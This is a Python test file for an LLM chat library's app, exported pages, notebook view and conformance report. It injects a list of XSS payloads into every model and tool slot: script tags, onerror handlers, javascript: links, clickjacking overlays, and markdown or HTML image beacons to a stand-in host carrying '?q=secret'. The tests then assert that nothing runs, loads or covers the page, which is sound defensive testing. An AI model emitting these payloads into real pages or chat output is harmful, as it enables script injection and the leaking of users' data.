"""Hostile strings in every slot that a model or a tool fills, in every view of a conversation: nothing runs, loads,
or covers the page.
"""

import httpx
import pytest
from playwright.sync_api import expect
from servers.blocks_model import blocks_model

import ellmer_core as ec
from ellmer_conformance.report import Report, Row
from ellmer_conformance.report.formats.html import page as report_page
from ellmer_conformance.report.results import Play
from ellmer_conformance.server.strict_server import StrictServer

RUN = "window.ran=1"
LAYER = "position:fixed;inset:0;opacity:0;z-index:9999"
AWAY = "https://away.invalid/x.png?q=secret"
#: What lies over more than half of the page, and would take its clicks.
LAYERS = """
[...document.querySelectorAll("body *")].filter(element => {
    const { position, pointerEvents, visibility } = getComputedStyle(element);
    const { width, height } = element.getBoundingClientRect();
    return position === "fixed" && pointerEvents !== "none" && visibility === "visible" && width * height > innerWidth * innerHeight / 2;
}).map(element => element.outerHTML.slice(0, 300))"""
HOSTILE = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{AWAY}">',
    f"![x]({AWAY})",
    f"![x][1]\n\n[1]: {AWAY}",
    f"[![x]({AWAY})](javascript:{RUN})",
    f"[x](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="{AWAY}"></iframe>',
    f'<object data="{AWAY}"></object><embed src="{AWAY}">',
    f'<svg onload="{RUN}"><use href="{AWAY}#x"/></svg>',
    f'<math><mtext><img src=x onerror="{RUN}"></mtext></math>',
    f'<style>@import "{AWAY}"; * {{ background: url({AWAY}) }}</style>',
    f'<link rel="stylesheet" href="{AWAY}"><base href="{AWAY}">',
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f'<form action="{AWAY}"><button style="{LAYER}">x</button></form>',
    f'<span class="suggestion submit" style="{LAYER}">x</span>',
    f'<content tool-call-id="x" style="{LAYER}">x</content>',
    f'<p>\n<https:/class=suggestion/style="{LAYER}">x',
    f"- ```\n\n<div style='{LAYER}'>x</div>",
    f"    ```\n<div style='{LAYER}'>x</div>",
    f"{'`' * 8}\n<div style='{LAYER}'>x</div>\n",
    f"</code></pre></textarea></title></script><script>{RUN}</script>",
    f"\"'><img src=x onerror={RUN}>",
    f'<video poster="{AWAY}" src="{AWAY}" autoplay></video><audio src="{AWAY}" autoplay></audio>',
    f"<details open ontoggle={RUN}>x</details><input autofocus onfocus={RUN}>",
)


def turns():
    """Returns a conversation with each string in every slot."""
    contents, results = [], []
    for number, text in enumerate(HOSTILE):
        request = ec.ContentToolRequest(f"c{number}{text}", text, {"a": text, text: 1, "_intent": text})
        broken = ec.ContentToolRequest(f"b{number}", text, raw=text, problem=text)
        display = {"title": text, "label": text, "value_preview": text, "markdown": text, "open": True}
        contents += [ec.ContentText(text), ec.ContentThinking(text), request, broken]
        results += [ec.ContentToolResult(text, extra={"display": display}, request=request),
                    ec.ContentToolResult(error=text, request=broken)]  # fmt: skip
        for value in (text, {"a": text}, [ec.ContentPDF("application/pdf", "JVBERi0xLjQK", text)],
                      ec.ContentImageRemote(AWAY), ec.ContentImageInline(text, text)):  # fmt: skip
            asked = ec.ContentToolRequest(f"d{number}{len(contents)}", "look", {"a": text})
            contents.append(asked)
            results.append(ec.ContentToolResult(value, extra={"display": {"open": True}}, request=asked))
    user = ec.UserTurn(
        [*map(ec.ContentText, HOSTILE), ec.ContentPDF("application/pdf", "JVBERi0xLjQK", HOSTILE[1])]
    )
    return [user, ec.AssistantTurn(contents), ec.UserTurn(results), ec.AssistantTurn("The end.")]


@pytest.fixture
def chat():
    chat = ec.chat_anthropic(api_key="none", model="m")
    chat.set_turns(turns())
    return chat


@pytest.fixture
def guarded(page):
    """Yields a page, and checks afterwards that nothing ran, loaded, or covered it."""
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    yield page
    page.evaluate("document.querySelectorAll('details').forEach(details => { details.open = true })")
    home = "/".join(page.url.split("/")[:3]) if page.url.startswith("http") else page.url
    assert [url for url in asked if not url.startswith(("data:", home))] == []
    assert page.evaluate("window.ran") is None
    assert page.evaluate(LAYERS) == []
    assert page.locator("iframe, object, embed, video, form[action]").count() == 0


SLOTS = ("text", "thinking", "citation", "argument", "name", "title", "label", "result", "error", "file")


def said_in(slot, text):
    """Returns a hostile string with a word by which the test finds its slot."""
    return f"{text}\n\nslot-{slot}"


def blocks(number, text):
    """Returns a model's blocks and calls with the string in them."""
    source = {"type": "web_search_result_location", "encrypted_index": "E", "cited_text": text}
    cited = [
        {**source, "url": "https://a.test", "title": said_in("citation", text)},
        {**source, "url": text, "title": ""},
    ]
    calls = (said_in("name", text), "show", "fail", "files")
    yield {"type": "thinking", "thinking": said_in("thinking", text)}
    yield {"type": "text", "text": said_in("text", f"{text}{number}"), "citations": cited}
    for name in calls:
        given = {"text": said_in("argument", text)}
        yield {"type": "tool_use", "id": f"toolu_{number}{name}", "name": name, "input": given}


def hostile_tools():
    """Returns tools whose titles, labels, results, errors and files come from the model."""
    looks = ec.tool_annotations(lambda given: said_in("title", given["text"]))

    def show(text):
        display = {"label": said_in("label", text), "value_preview": text, "open": True}
        return ec.ContentToolResult(said_in("result", text), extra={"display": display})

    def fail(text):
        raise RuntimeError(said_in("error", text))

    def files(text):
        return [ec.ContentPDF("application/pdf", "JVBERi0xLjQK", said_in("file", text)), text]

    return [
        ec.tool(does, name=does.__name__, description="Does.", arguments={"text": str}, annotations=looks)
        for does in (show, fail, files)
    ]


def test_in_the_app_while_it_is_said(guarded, served):
    answers = [
        [block for number, text in enumerate(HOSTILE) for block in blocks(number, text)],
        [{"type": "text", "text": "The end."}],
        "\n".join(HOSTILE),
    ]
    chat = ec.chat_anthropic(
        base_url=f"{served(blocks_model(answers))}/v1",
        api_key="none",
        model="claude-sonnet-5",
        echo="none",
        max_tries=1,
    )
    chat.register_tools(hostile_tools())
    guarded.goto(served(ec.chat_app(chat)))
    log, box = guarded.get_by_role("log"), guarded.get_by_role("textbox", name="Chat message")
    box.fill("Hi")
    box.press("Enter")
    expect(log.get_by_text("The end.")).to_be_visible()
    guarded.evaluate(
        "document.querySelectorAll('[role=log] button[aria-expanded=false]').forEach(button => button.click())"
    )
    shown = log.evaluate("log => log.textContent")
    assert {slot: shown.count(f"slot-{slot}") >= len(HOSTILE) for slot in SLOTS} == dict.fromkeys(SLOTS, True)
    box.fill("Go on")
    box.press("Enter")
    expect(log.get_by_role("alert")).to_contain_text(HOSTILE[0])
    guarded.mouse.click(20, 450)
    assert [turn.text for turn in chat.get_turns() if turn.role == "user" and turn.text] == ["Hi"]


def test_in_the_app(guarded, served, chat):
    guarded.goto(served(ec.chat_app(chat)))
    expect(guarded.get_by_role("log").get_by_text("The end.")).to_be_visible()
    guarded.wait_for_load_state("networkidle")


def test_in_an_exported_page(guarded, chat, tmp_path):
    guarded.goto(ec.export(chat, tmp_path / "chat.html", title=HOSTILE[0]).as_uri())
    expect(guarded.get_by_text("The end.")).to_be_visible()


def test_in_a_notebook(page, chat):
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    page.set_content(f"<title>Notebook</title><main>{chat._repr_html_()}</main>")
    frame = page.frames[-1]
    expect(frame.get_by_text("The end.")).to_be_visible()
    frame.evaluate("document.querySelectorAll('details').forEach(details => { details.open = true })")

    assert [url for url in asked if not url.startswith(("data:", "about:"))] == []
    assert [each.evaluate("window.ran") for each in (page, frame)] == [None, None]
    assert frame.evaluate(LAYERS) == []
    assert frame.locator("iframe, object, embed, video, form[action]").count() == 0


def test_in_a_notebook_even_the_html_of_a_tool_runs_nothing(page):
    """The author of a tool may mark HTML as such, and put a text of others into it."""
    refused = []
    page.on("requestfailed", lambda request: refused.append(request.failure))
    request = ec.ContentToolRequest("1", "look")
    html = "".join(HOSTILE)
    result = ec.ContentToolResult("seen", extra={"display": {"html": html, "open": True}}, request=request)
    page.set_content(ec.UserTurn([result, "The end."])._repr_html_())
    expect(page.frames[1].get_by_text("The end.")).to_be_visible()

    assert refused.count("csp") > 5
    assert set(refused) <= {"csp", "origin"}  # nothing of it left the browser
    assert [each.evaluate("window.ran") for each in page.frames[:2]] == [None, None]


def test_in_a_report(guarded, tmp_path):
    rows, plays = [], []
    for text in HOSTILE:
        place = (text, "openai-chat", text, text, "sync")
        plays.append(Play(*place, cassette=text, transcript=text))
        rows.append(
            Row(
                *place,
                text,
                "MUST",
                "reject",
                "fail",
                1,
                text,
                text,
                text,
                excerpt=text,
                reason=text,
                issue=text,
            )
        )
    report = Report(rows, plays, transcripts={text: text for text in HOSTILE}, problems=list(HOSTILE),
                    tool={"name": HOSTILE[0], "version": HOSTILE[1]}, requirements=HOSTILE[2],
                    skipped=[{"adapter": t, "wire": t, "case": t, "reason": t} for t in HOSTILE])  # fmt: skip
    (tmp_path / "index.html").write_text(report_page(report, HOSTILE[0]), "utf-8")
    guarded.goto((tmp_path / "index.html").as_uri())
    guarded.evaluate(
        "document.querySelectorAll('.failure').forEach(b => { b.click(); document.getElementById('detail').close(); })"
    )
    expect(guarded.locator("#detail-body")).to_contain_text("position:fixed")


def test_in_the_page_of_the_strict_server(guarded):
    with StrictServer(mode="observe") as server:
        guarded.goto(server.origin)
        for text in HOSTILE:
            body = {"model": text, "messages": [{"role": "tool", "tool_call_id": text, "content": text}]}
            httpx.post(
                f"{server.origin}/v1/chat/completions", json=body, headers={"authorization": "Bearer k"}
            )
        expect(guarded.get_by_text("POST /v1/chat/completions")).to_have_count(len(HOSTILE))
